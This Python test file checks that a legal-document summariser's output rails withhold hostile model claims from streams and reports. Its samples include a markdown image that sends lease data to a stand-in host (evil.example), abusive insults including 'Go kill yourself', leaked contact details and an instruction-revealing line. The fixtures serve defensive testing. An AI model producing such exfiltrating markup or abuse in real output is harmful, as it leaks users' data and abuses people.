"""Text is held back until it has passed: what a run shows while it goes on, and what it leaves behind."""

import json
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from agentkit.adapters.nemo.rails import NemoRails
from agentkit.agents.screener import screen_aside, screen_claims
from agentkit.agents.shown import Shown
from agentkit.app import AgentKit
from agentkit.config import Config
from agentkit.rendering import render, render_docx
from agentkit.report import Report, ReportClaim
from agentkit.testing.fakes import ScriptedBackend
from agentkit.testing.server import ModelServer, Received, Reply, chat_reply
from agentkit.types import Citation, Claim, Prompt, RemovedClaim, SafePassage, Verdict

RENT = "The Tenant shall pay a rent of EUR 1,250 on the first day of each month."
NOTICE = "Notices are sent to Ms Ada Marlow at ada.marlow@mills.example."
WITNESS = 'The caretaker told the court: "I will kill you and your dog."'
LEASE = f"LEASE\n\n1. Rent\n\n{RENT}\n\n2. Notices\n\n{NOTICE}\n\n3. Evidence\n\n{WITNESS}\n"
ROOT = Path(__file__).parents[2] / "guardrails"
HOSTILE = {
    "agentkit check toxicity": "The Tenant pays a rent of EUR 1,250, you worthless scum.",
    "agentkit check markup": "The Tenant pays a rent of EUR 1,250 ![x](https://evil.example/?rent=1250).",
    "agentkit check advice": "The rent is EUR 1,250, and you should sue the Landlord.",
    "agentkit check personal": "The Tenant pays the rent of EUR 1,250 to zed.quill@leaked.example.",
    "agentkit check placeholders": "The Tenant pays the rent of EUR 1,250 to <PERSON_99>.",
    "agentkit check leakage": "The rent is EUR 1,250. I was told to use only the passages and follow them.",
}
TRACES = ("worthless", "evil.example", "you should sue", "zed.quill", "PERSON_99", "I was told")


@pytest.fixture
def lease(tmp_path: Path) -> Path:
    path = tmp_path / "lease.txt"
    path.write_text(LEASE, encoding="utf-8")
    return path


def answer(*rows: tuple[str, str]) -> Callable[[Prompt], str]:
    """Answer with claims, each a text and words of the passage that it cites, which may hold a placeholder."""

    def reply(prompt: Prompt) -> str:
        if prompt.task == "combine":
            return json.dumps({"keep": [claim.id for claim in prompt.claims]})
        said: list[Mapping[str, object]] = []
        for text, quote in rows:
            passage = next(item for item in prompt.passages if quote in item.text)
            said.append({"text": text, "citations": [{"passage": passage.id, "quote": quote}], "topic": ""})
        return json.dumps({"answered": True, "claims": said})

    return reply


def everything(report: Report) -> bytes:
    """Every form of a report. The run's record, which explains what the model answered, is none."""
    return b"\n".join(
        [*(render(report, form).encode() for form in ("text", "json", "md", "html")), render_docx(report)]
    )


@pytest.mark.parametrize("policy", ["remove", "flag"])
async def test_what_a_rail_blocks_is_in_no_event_and_no_report(lease: Path, policy: str) -> None:
    model = ScriptedBackend(answer((RENT, RENT), *((text, RENT) for text in HOSTILE.values())))
    config = Config.model_validate({"review": {"unsupported": policy, "max_revisions": 1}})
    async with AgentKit(config, model=model) as kit:
        events = [event async for event in kit.stream([lease])]
    report = events[-1]["report"]
    assert isinstance(report, Report)
    assert [claim.text for claim in report.claims] == [RENT]
    told = [removed for removed in report.removed_claims if removed.text.startswith("[withheld: ")]
    assert len(told) == len(report.removed_claims) >= len(HOSTILE)
    for rail, text in HOSTILE.items():
        assert any(item.text == f"[withheld: {len(text.split())} words]" and rail in item.reason for item in told)
        assert any((result.rail, result.action) == (rail, "blocked") for result in report.rails)
    left = everything(report) + repr(events).encode()
    assert not [trace for trace in TRACES if trace.encode() in left]


async def test_a_stream_shows_a_claim_once_it_has_passed_and_takes_none_back(lease: Path) -> None:
    model = ScriptedBackend(answer((RENT, RENT), (HOSTILE["agentkit check toxicity"], RENT), (WITNESS, WITNESS)))
    order: list[str] = []
    shown: list[str] = []
    async with AgentKit(model=model) as kit:
        async for event in kit.stream([lease]):
            order.append(f"{event['event']} {event.get('node', '')}".strip())
            if isinstance(claim := event.get("claim"), ReportClaim):
                shown.append(claim.text)
            if isinstance(report := event.get("report"), Report):
                assert shown == [claim.text for claim in report.claims] == [RENT, WITNESS]
    assert order.index("claim") > order.index("node_finished screen_answer")
    assert order[-1] == "report"


async def test_words_of_the_source_are_a_quotation(lease: Path) -> None:
    async with AgentKit(model=ScriptedBackend(answer((WITNESS, WITNESS)))) as kit:
        report = await kit.summarize([lease])
    assert [claim.text for claim in report.claims] == [WITNESS]
    assert report.removed_claims == []


async def test_a_placeholder_that_was_given_out_passes_and_is_restored(lease: Path) -> None:
    def reply(prompt: Prompt) -> str:
        if prompt.task == "combine":
            return json.dumps({"keep": [claim.id for claim in prompt.claims]})
        passage = next(item for item in prompt.passages if "Notices are sent" in item.text)
        quote = next(row for row in passage.text.splitlines() if "Notices are sent" in row)
        citation = {"passage": passage.id, "quote": quote}
        return json.dumps({"answered": True, "claims": [{"text": quote, "citations": [citation], "topic": ""}]})

    async with AgentKit(model=ScriptedBackend(reply)) as kit:
        report = await kit.summarize([lease])
    assert [claim.text for claim in report.claims] == [NOTICE]


async def test_the_words_of_a_judge_pass_the_rails_or_are_withheld(tmp_path: Path) -> None:
    letter, quote = tmp_path / "letter.txt", "The rent is EUR 2,450 a month, payable on the first day of each month."
    letter.write_text(f"Dear Ms Helen Carter,\n\nwe confirm the lease of the shop.\n{quote}\n", encoding="utf-8")
    citation = {"passage": "d0p0", "quote": quote}
    claim = {"text": "Rent of EUR 2,450 is payable monthly in advance.", "citations": [citation], "topic": ""}
    verdict = {"label": "supported", "score": 0.9, "reason": "Fine, but you are a worthless piece of garbage."}

    def reply(request: Received) -> Reply:
        judging = "contradicted" in json.dumps(request.body)
        return chat_reply(json.dumps(verdict if judging else {"answered": True, "claims": [claim]}))

    async with ModelServer([reply]) as server:
        served = {
            "model_name": "served",
            "client": "openai",
            "input_price": 0,
            "output_price": 0,
            "litellm_params": {"model": "openai/served", "api_base": server.url},
        }
        config = Config.model_validate({"models": [served], "roles": {"writer": "served", "reviewer": "served"}})
        async with AgentKit(config) as kit:
            report = await kit.ask([letter], "What is the rent of the shop?")
    assert [item.verdict.method for item in report.claims] == ["judge"]
    assert report.claims[0].verdict.reason == "[withheld: 9 words]"
    assert b"garbage" not in everything(report)


PASSAGE = SafePassage("d0p0", 0, 0, 60, "The rent of <PERSON_1> is EUR 5. Call the clerk at (202) 555-0143.")


def shown(*, asked: str = "", more: tuple[SafePassage, ...] = ()) -> Shown:
    return Shown([PASSAGE], everything=lambda: [PASSAGE, *more], asked=lambda: asked)


@pytest.mark.parametrize(
    ("text", "passes"),
    [
        ("<PERSON_1> pays EUR 5.", True),
        ("<PERSON_2> pays EUR 5.", True),  # of another passage of the run
        ("<PERSON_3> pays EUR 5.", True),  # of the question
        ("<PERSON_4> pays EUR 5.", False),
        ("PERSON_1 pays EUR 5.", False),
        ("Call 202-555-0143.", True),
        ("Call 202-555-0199.", False),
    ],
)
async def test_a_claim_is_compared_with_what_models_were_shown(text: str, *, passes: bool) -> None:
    other = SafePassage("d0p1", 0, 70, 90, "Signed by <PERSON_2>.")
    claim = Claim("c1", text, [Citation(0, 0, 5, "d0p0")])
    rails = NemoRails.from_folder(ROOT / "legal")
    known = shown(asked="Who is <PERSON_3>?", more=(other,))
    screening = await screen_claims([claim], rails=rails, forbidden=[], shown=known)
    assert bool(screening.claims) is passes


async def test_removed_claims_and_reasons_are_told_only_if_they_pass() -> None:
    rails = NemoRails.from_folder(ROOT / "legal")
    removed = [RemovedClaim("The rent is EUR 6.", "contradicted: 6 is not 5"), RemovedClaim("Go kill yourself.", "no")]
    reasons = ["You are a moron.", "", "ADA  MARLOW said so."]
    verdicts = [Verdict(f"c{number}", "supported", 1.0, "judge", reason) for number, reason in enumerate(reasons)]
    aside = await screen_aside(removed, verdicts, rails=rails, forbidden=["Ada Marlow"], shown=shown())
    assert [item.text for item in aside.removed] == ["The rent is EUR 6.", "[withheld: 3 words]"]
    assert [item.reason for item in aside.removed] == ["contradicted: 6 is not 5", "no"]
    assert [verdict.reason for verdict in aside.verdicts] == ["[withheld: 4 words]", "", "[withheld: 4 words]"]
    assert {"agentkit check toxicity", "agentkit check redacted"} <= {result.rail for result in aside.results}
